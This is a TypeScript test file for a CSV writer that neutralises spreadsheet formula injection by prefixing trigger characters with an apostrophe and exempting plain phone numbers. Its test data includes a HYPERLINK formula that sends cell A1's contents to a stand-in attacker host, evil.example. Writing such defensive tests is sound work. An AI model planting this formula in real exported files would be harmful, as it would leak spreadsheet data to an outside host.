import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvField, csvLine, startsLikeFormula } from './csv.js';
import { readLine } from './csv-reader.test-helper.js';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20'];

describe('csvField', () => {
  it.each(TRIGGERS)('prefixes a field starting with %j with an apostrophe', (trigger) => {
    const field = `${trigger}HYPERLINK("http://evil.example/?d="&A1,"Open")`;
    const written = csvField(field);
    expect(readLine(`${written}\n`)).toEqual([`'${field}`]);
  });

  it('writes the HYPERLINK attack as inert text, quoted because of its quotes and comma', () => {
    expect(csvField('=HYPERLINK("http://evil.example/?d="&A1,"Open")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Open"")"',
    );
  });

  it('leaves a plain E.164 phone number readable, and neutralises anything else after a +', () => {
    expect(csvField('+12025550100')).toBe('+12025550100');
    expect(csvField('+1')).toBe('+1');
    expect(csvField('+')).toBe("'+");
    expect(csvField('+1202555010012345')).toBe("'+1202555010012345");
    expect(csvField('+1+1')).toBe("'+1+1");
    expect(csvField('+1 202 555 0100')).toBe("'+1 202 555 0100");
    expect(csvField('-12025550100')).toBe("'-12025550100");
  });

  it('reads back every field as written, prefixed with an apostrophe exactly when a spreadsheet would run it', () => {
    const text = fc.string({
      unit: fc.constantFrom('a', '1', ',', '"', '\n', ' ', 'é', '😀', "'", ...TRIGGERS),
      maxLength: 12,
    });
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (fields) => {
        const read = readLine(csvLine(fields));
        expect(read).toHaveLength(fields.length);
        read.forEach((out, i) => {
          const field = fields[i]!;
          const plainPhone = /^\+\d{1,15}$/.test(field);
          expect(out).toBe(startsLikeFormula(field) && !plainPhone ? `'${field}` : field);
          // What a spreadsheet sees first is never a formula trigger, bar a plain number.
          if (!plainPhone) expect(startsLikeFormula(out)).toBe(false);
        });
      }),
    );
  });

  it('quotes only a field with a comma, a quote or a line break', () => {
    expect(csvLine(['a b', 'a,b', 'a"b', 'a\nb', "O'Brien"])).toBe(
      'a b,"a,b","a""b","a\nb",O\'Brien\n',
    );
  });
});
